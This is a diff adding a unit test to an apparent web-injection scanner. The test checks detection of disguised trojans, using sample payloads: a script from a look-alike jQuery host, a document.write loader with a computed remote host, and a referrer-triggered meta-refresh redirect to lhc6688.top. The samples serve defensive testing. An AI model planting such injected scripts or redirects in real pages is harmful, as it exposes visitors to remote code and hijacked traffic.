@@ -257,6 +257,31 @@ static void honest_unknown_host_is_weak(void **state)
 
 /* ---- attacks ---- */
 
+/* Injections that hide behind familiar names, variables and meta tags. */
+static void attack_disguised(void **state)
+{
+	struct sw_findings f;
+	(void)state;
+
+	analyze(PAGE("<script src=\"https://code.jsquery37.com/a.js\"></script>", ""), URL, &f);
+	assert_has(&f, "trojan.foreign_script", "look-alike-host");
+	sw_findings_cleanup(&f);
+	analyze(PAGE("", "<script>var u='cloud.x-js.example';var h='/a.js';"
+		     "document.write('<script src=\"http://'+u+h+'\"><\\/script>');</script>"), URL, &f);
+	assert_has(&f, "trojan.doc_write", "computed host");
+	sw_findings_cleanup(&f);
+	analyze(PAGE("", "<script>var f=document.referrer;if(f.indexOf(\"baidu.com\")>-1){document.write("
+		     "'<meta http-equiv=\"refresh\" content=\"0;url=http://www.lhc6688.top/\">')}</script>"),
+		URL, &f);
+	assert_has(&f, "trojan.search_redirect", "lhc6688.top");
+	sw_findings_cleanup(&f);
+	/* The site's own host written from location is honest. */
+	analyze(PAGE("", "<script>document.write('<script src=\"http://'+location.host+'/js/a.js\"><\\/script>');"
+		     "</script>"), URL, &f);
+	assert_quiet(&f);
+	sw_findings_cleanup(&f);
+}
+
 static void attack_hidden_iframe(void **state)
 {
 	struct sw_findings f;
@@ -535,6 +560,7 @@ int main(void)
 		cmocka_unit_test(honest_code),
 		cmocka_unit_test(honest_unknown_host_is_weak),
 		cmocka_unit_test(attack_hidden_iframe),
+		cmocka_unit_test(attack_disguised),
 		cmocka_unit_test(attack_foreign_script),
 		cmocka_unit_test(attack_search_redirect),
 		cmocka_unit_test(attack_mobile_redirect),
